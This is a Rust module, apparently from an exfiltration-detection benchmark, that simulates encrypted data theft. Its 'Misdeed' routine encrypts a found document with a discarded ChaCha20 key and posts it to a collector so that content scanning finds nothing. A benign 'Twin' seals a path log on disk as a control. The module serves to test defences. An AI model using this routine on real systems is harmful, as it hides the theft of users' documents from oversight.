//! A document goes to the collector encrypted. ExfilBench D01, ATT&CK T1573.001.
//!
//! ChaCha20 with a key and nonce from the kernel's generator. The key stays in this process and goes
//! with it: nobody can read what was sent, not even who receives it, and a search for planted data
//! finds nothing. What remains is that a process which held a document sent unreadable bytes. The
//! twin seals its log on disk in the same way.

use std::io;
use std::path::Path;

use chacha20::ChaCha20;
use chacha20::cipher::{KeyIvInit as _, StreamCipher as _};

use super::{Conduct, Loot, Trouble, keep};
use crate::configuration::Configuration;
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Takes a document and encrypts it.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let collector = self.0.lab.collector()?;
        let path = &self.0.lab.configuration().parameters.path;
        Ok(send::post(&collector, path, &[], &seal(&self.0.document()?.content)?)?)
    }
}

/// Seals a log.
#[derive(Debug)]
struct Twin {
    configuration: Configuration,
    log: Vec<u8>,
}

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin { configuration, log: Vec::new() })
}

impl Conduct for Twin {
    fn met(&mut self, path: &Path, _: &[u8]) {
        self.log.extend(path.as_os_str().as_encoded_bytes());
        self.log.push(b'\n');
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        Ok(keep(&self.configuration, &seal(&self.log)?)?)
    }
}

/// Encrypts with a key that nobody keeps.
fn seal(bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut secret = [0_u8; 44];
    rustix::rand::getrandom(&mut secret, rustix::rand::GetRandomFlags::empty())?;
    let mut sealed = bytes.to_vec();
    let key = std::array::from_fn::<u8, 32, _>(|place| secret[place]);
    let nonce = std::array::from_fn::<u8, 12, _>(|place| secret[32 + place]);
    ChaCha20::new(&key.into(), &nonce.into()).apply_keystream(&mut sealed);
    Ok(sealed)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_bytes_are_sealed_differently_each_time() {
        let plain = [0_u8; 64];
        let first = seal(&plain).unwrap();
        assert_eq!(first.len(), plain.len());
        assert_ne!(first, plain);
        assert_ne!(first, seal(&plain).unwrap());
    }
}
